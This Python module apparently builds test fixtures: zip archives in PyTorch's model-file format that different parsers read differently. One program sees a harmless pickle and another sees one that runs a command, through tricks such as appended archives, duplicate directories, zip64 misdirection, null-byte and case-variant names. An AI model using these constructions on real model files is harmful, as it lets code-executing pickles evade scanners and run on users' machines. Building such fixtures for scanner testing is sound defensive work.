"""Archives in which two programs could read different pickles: a harmless one, and one that runs code.

Each function in `DOUBLES` takes the bytes of two complete archives, a good one and an evil one, and returns the bytes
of one archive.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import torch
from malicious_pickles import SYSTEM
from torch import nn

_END = struct.Struct("<4s4H2LH")


def archive(program: bytes, name: str = "a/data.pkl", **more: bytes) -> bytes:
    """An archive with a pickle in it, as Python's own library writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr(name, program)
        target.writestr("a/version", "3\n")
        target.writestr("a/byteorder", "little")
        for key, content in more.items():
            target.writestr(key.replace("__", "/"), content)
    return out.getvalue()


def _end_of(content: bytes) -> tuple[int, int, int]:
    """The number of entries, the length of the directory in bytes, and the offset at which it begins."""
    fields = _END.unpack(content[-_END.size :])
    return fields[4], fields[5], fields[6]


def _moved(content: bytes, by: int) -> bytes:
    """The directory of an archive whose entries are moved by a number of bytes."""
    count, length, start = _end_of(content)
    directory = bytearray(content[start : start + length])
    place = 0
    for _ in range(count):
        name, extra, comment = struct.unpack_from("<3H", directory, place + 28)
        (offset,) = struct.unpack_from("<L", directory, place + 42)
        struct.pack_into("<L", directory, place + 42, offset + by)
        place += 46 + name + extra + comment
    return bytes(directory)


def _ended(content: bytes, by: int, comment: bytes = b"", start: int | None = None) -> bytes:
    count, length, at = _end_of(content)
    fields = (b"PK\x05\x06", 0, 0, count, count, length, at + by if start is None else start, len(comment))
    return _END.pack(*fields) + comment


def evil_behind_good(good: bytes, evil: bytes) -> bytes:
    """Two complete archives, one after the other; the offsets in the second count from its own start."""
    return good + evil


def evil_behind_good_moved(good: bytes, evil: bytes) -> bytes:
    """The same, but the offsets in the second archive count from the start of the file."""
    start = _end_of(evil)[2]
    return good + evil[:start] + _moved(evil, len(good)) + _ended(evil, len(good))


def good_in_the_comment_of_evil(good: bytes, evil: bytes) -> bytes:
    start = _end_of(evil)[2]
    whole = good[: _end_of(good)[2]] + _moved(good, 0) + _ended(good, 0)
    body = evil[:start] + _moved(evil, 0)
    return body + _ended(evil, 0, comment=whole)


def two_directories(good: bytes, evil: bytes) -> bytes:
    """The entries of both, then both directories. The end record names the evil one, the zip64 end the good one."""
    first, second = good[: _end_of(good)[2]], evil[: _end_of(evil)[2]]
    of_good, of_evil = _moved(good, 0), _moved(evil, len(first))
    entries = first + second
    count = _end_of(good)[0]
    end_64 = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(of_good), len(entries) + len(of_evil)
    )
    place = len(entries) + len(of_good) + len(of_evil)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, place, 1)
    last = _ended(evil, 0, start=len(entries))
    return entries + of_evil + of_good + end_64 + locator + last


def zip64_end_far_from_its_place(good: bytes, evil: bytes) -> bytes:
    """Python looks for the zip64 end right before its locator; other programs look where the locator points."""
    first, second = good[: _end_of(good)[2]], evil[: _end_of(evil)[2]]
    of_good, of_evil = _moved(good, 0), _moved(evil, len(first))
    entries = first + second
    count = _end_of(good)[0]

    def end_64(length: int, start: int) -> bytes:
        return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, start)

    place = len(entries)
    body = entries + end_64(len(of_evil), place + 56) + of_evil
    body += of_good + end_64(len(of_good), place + 56 + len(of_evil))
    full = _END.pack(b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return body + struct.pack("<4sLQL", b"PK\x06\x07", 0, place, 1) + full


def header_of_good_entry_of_evil(good: bytes, evil: bytes) -> bytes:
    """The name of an entry in the directory differs from that in the entry's own header."""
    renamed = good.replace(b"a/data.pkl", b"a/dat2.pkl", 1)
    return renamed[: _end_of(good)[2]] + good[_end_of(good)[2] :]


def names_of_two_cases(good: bytes, evil: bytes) -> bytes:
    return _with(good, "a/DATA.PKL", _program(evil))


def name_twice(good: bytes, evil: bytes) -> bytes:
    return _with(good, "a/data.pkl", _program(evil))


def good_in_another_folder(good: bytes, evil: bytes) -> bytes:
    return _with(evil, "b/data.pkl", _program(good))


def name_with_a_null(good: bytes, evil: bytes) -> bytes:
    """For Python, a name ends at a null byte."""
    return _with(evil, "a/data.pkX.txt", _program(good)).replace(b"a/data.pkX.txt", b"a/data.pkl\x00txt")


def bytes_before(good: bytes, evil: bytes) -> bytes:
    """An archive after another one that has no end record; its offsets count from its own start."""
    return good[: _end_of(good)[2]] + evil


def bytes_behind(good: bytes, evil: bytes) -> bytes:
    return evil + b"\x00" * 30


def hidden_before_the_directory(good: bytes, evil: bytes) -> bytes:
    start = _end_of(good)[2]
    hidden = evil[: _end_of(evil)[2]] + _moved(evil, start)
    return good[:start] + hidden + _moved(good, 0) + _ended(good, len(hidden))


def sizes_that_disagree(good: bytes, evil: bytes) -> bytes:
    content = bytearray(evil)
    struct.pack_into("<L", content, 18, 3)
    return bytes(content)


def _program(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return opened.read("a/data.pkl")


def _with(content: bytes, name: str, program: bytes) -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as target:
        target.writestr(name, program)
    return out.getvalue()


DOUBLES: dict[str, Callable[[bytes, bytes], bytes]] = {
    function.__name__: function
    for function in (
        *(evil_behind_good, evil_behind_good_moved, good_in_the_comment_of_evil, two_directories),
        *(zip64_end_far_from_its_place, header_of_good_entry_of_evil, names_of_two_cases, name_twice),
        *(good_in_another_folder, name_with_a_null, bytes_before, bytes_behind, hidden_before_the_directory),
        *(sizes_that_disagree,),
    )
}


def whole_archives() -> tuple[bytes, bytes]:
    """A harmless archive with a layer, and one that runs a command, with the same entries."""
    out = io.BytesIO()
    torch.save({"model": nn.Conv2d(1, 1, 1)}, out)
    with zipfile.ZipFile(out) as source:
        entries = {name.split("/", 1)[1]: source.read(name) for name in source.namelist()}
    more = {f"a/{name}".replace("/", "__"): entries[name] for name in entries if name.startswith("data/")}
    return archive(entries["data.pkl"], **more), archive(b"\x80\x02" + SYSTEM + b".", **more)
